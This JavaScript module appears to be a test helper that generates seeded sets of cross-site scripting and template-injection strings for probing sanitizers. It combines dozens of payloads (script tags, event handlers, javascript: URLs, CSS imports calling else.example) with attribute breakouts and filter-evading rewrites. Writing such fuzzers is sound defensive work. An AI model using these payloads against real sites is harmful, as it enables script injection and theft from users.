/** What runs if a text is taken for markup. Each calls `probe` or leaves an element that says `data-probe`. */
const ACTIONS = [
  "<script>probe()</script>",
  "<script data-probe src=//else.example/probe.js></script>",
  "<img data-probe src=x onerror=probe()>",
  "<img data-probe src=//else.example/probe.png>",
  "<svg data-probe onload=probe()>",
  "<svg data-probe><script>probe()</script></svg>",
  "<svg data-probe><animate onbegin=probe() attributeName=x dur=1s>",
  "<svg data-probe><a xlink:href=javascript:probe()><text y=9>x</text></a></svg>",
  "<iframe data-probe srcdoc='<script>parent.probe()</script>'></iframe>",
  "<iframe data-probe src=javascript:probe()></iframe>",
  "<details data-probe open ontoggle=probe()>",
  "<input data-probe autofocus onfocus=probe()>",
  "<video data-probe><source onerror=probe()></video>",
  "<audio data-probe src=x onerror=probe()>",
  "<math data-probe><mtext><img src=x onerror=probe()></mtext></math>",
  "<a data-probe href=javascript:probe()>x</a>",
  "<form data-probe action=//else.example/><button formaction=javascript:probe()>x</button></form>",
  "<object data-probe data=javascript:probe()></object>",
  "<embed data-probe src=data:text/html,<script>parent.probe()</script>>",
  "<base data-probe href=//else.example/>",
  "<meta data-probe http-equiv=refresh content='0;url=//else.example/'>",
  "<link data-probe rel=stylesheet href=//else.example/x.css>",
  "<style data-probe>@import '//else.example/x.css'</style>",
  '<p data-probe style="background:url(//else.example/x.png)">x</p>',
  "<template data-probe><script>probe()</script></template>",
  '<noscript><p title="</noscript><img data-probe src=x onerror=probe()>">',
  "<x data-probe onmouseover=probe() style=position:fixed;inset:0>",
  "<p data-probe contenteditable onfocus=probe() autofocus>x</p>",
  "<marquee data-probe onstart=probe()>x</marquee>",
  "javascript:probe()",
  "data:text/html,<script>probe()</script>",
  "[probe](javascript:probe())",
  '![probe](//else.example/x.png"onerror="probe())',
  "{{constructor.constructor('probe()')()}}",
  "${probe()}",
  "#{probe()}",
  "<%= probe() %>",
  "@import '//else.example/probe.css';",
  "expression(probe())",
];

/** What gets out of where a text stands: attributes, scripts, comments, text areas. */
const BEFORE = [
  "",
  '">',
  "'>",
  "`>",
  "</script>",
  "</title>",
  "</textarea>",
  "</style>",
  "-->",
  "]]>",
  '\\">',
  '" onfocus=probe() autofocus x="',
  "';probe();//",
  '";probe();//',
  "&lt;",
  "\u2028",
  "%3Cscript%3E",
  "\\u003cscript\\u003e",
  "<!--",
  "<<",
  "\u202e",
  "\u200b",
  "&#60;",
];

/** Ways to write the same that a filter of words would miss. */
const WRITTEN = [
  (text) => text,
  (text) => text.replaceAll(/<(\w)(\w*)/g, (_, first, rest) => `<${first.toUpperCase()}${rest}`),
  (text) => text.replaceAll(/ (on\w+)=/g, "/$1 ="),
  (text) => text.replaceAll("javascript:", "jav\u200bascript:").replaceAll("<script>", "<script/x>"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
];

/** So many hostile texts, other ones for each seed and the same for the same; every action stands among them. */
export function hostileTexts(count, seed) {
  const random = randomFrom(seed);
  const written = ACTIONS.flatMap((action) =>
    BEFORE.flatMap((before) => [...new Set(WRITTEN.map((write) => before + write(action)))]),
  );
  const others = written.map((text) => ({ text, order: random() })).sort((one, other) => one.order - other.order);
  return [...new Set([...ACTIONS, ...others.map(({ text }) => text)])].slice(0, count);
}

function randomFrom(seed) {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}
